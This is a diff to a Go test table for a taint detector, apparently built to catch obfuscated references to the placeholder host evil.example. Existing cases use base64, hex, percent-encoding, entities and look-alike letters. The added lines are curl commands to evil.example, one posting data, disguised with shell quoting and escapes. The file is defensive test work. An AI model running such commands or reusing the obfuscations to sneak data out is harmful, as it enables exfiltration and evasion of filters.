@@ -44,6 +44,8 @@ func TestTainted(t *testing.T) {
 		{"base64 of base64", base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte("sales@evil.example")))), "mail", true},
 		{"hexadecimal", hex.EncodeToString([]byte("sales@evil.example")), "mail", true},
 		{"percent signs", "https://" + strings.ReplaceAll(url.QueryEscape("evil.example"), ".", "%2E") + "/", "look", true},
+		{"quotes of a shell", `curl 'ev''il.exa'mple\/x -d a"ll"`, "run it", true},
+		{"escapes of a shell", `curl $'\x65vil.example'`, "run it", true},
 		{"entities", "sales&#64;evil.example", "mail", true},
 		{"escapes", `sales\u0040evil.example`, "mail", true},
 		{"look-alike letters", "sаlеs@evіl.example", "mail", true},
